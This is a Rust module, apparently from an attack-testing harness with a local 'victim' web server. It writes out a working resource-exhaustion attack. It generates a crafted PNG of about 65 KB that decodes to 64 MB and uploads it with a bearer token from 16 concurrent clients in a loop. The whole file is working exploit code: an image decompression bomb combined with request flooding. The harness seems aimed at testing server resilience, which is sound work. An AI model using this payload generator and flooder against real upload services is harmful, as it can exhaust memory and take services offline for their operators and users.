use super::web_large_uploads::head;
use crate::crowd::{crowd, repeat};
use crate::round::Round;
use crate::web_victim::token_of;
use flate2::write::ZlibEncoder;
use flate2::{Compression, Crc};
use std::io::{self, Write};

const CLIENTS: usize = 16;
/// The most that a side may have. Decoded, such a picture takes 64 MB.
const SIDE: u32 = 4096;

/// Pictures of 65 KB that become 64 MB when they are decoded, many at once.
pub(super) fn run(round: &mut Round) -> Result<(), String> {
    let mut server = round.pages()?;
    let address = server.address()?;
    let token = token_of(address, r#"{"name":"Eve","groups":[]}"#)?;
    let picture = png().map_err(|error| error.to_string())?;
    let head = head(address, &format!("Authorization: Bearer {token}\r\n"), picture.len());
    let request = [head, picture].concat();
    let mut answered = 0;
    round.attack_pages(&mut server, |until| {
        answered = crowd(CLIENTS, |_| repeat(address, &request, until)).into_iter().sum();
        Ok(())
    })?;
    round.note(format!("{answered} pictures answered"));
    Ok(())
}

/// A picture of one colour, as large as it may be.
fn png() -> io::Result<Vec<u8>> {
    let mut header = [SIDE.to_be_bytes(), SIDE.to_be_bytes()].concat();
    // Eight bits for each of four channels; no other way to compress, to filter, or to interlace.
    header.extend([8, 6, 0, 0, 0]);
    let mut pixels = ZlibEncoder::new(Vec::new(), Compression::best());
    let row = vec![0; 1 + 4 * SIDE as usize];
    for _ in 0..SIDE {
        pixels.write_all(&row)?;
    }
    let chunks = [(b"IHDR", header), (b"IDAT", pixels.finish()?), (b"IEND", Vec::new())];
    let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
    for (name, data) in chunks {
        file.extend((data.len() as u32).to_be_bytes());
        let summed = [name.as_slice(), &data].concat();
        let mut sum = Crc::new();
        sum.update(&summed);
        file.extend(summed);
        file.extend(sum.sum().to_be_bytes());
    }
    Ok(file)
}
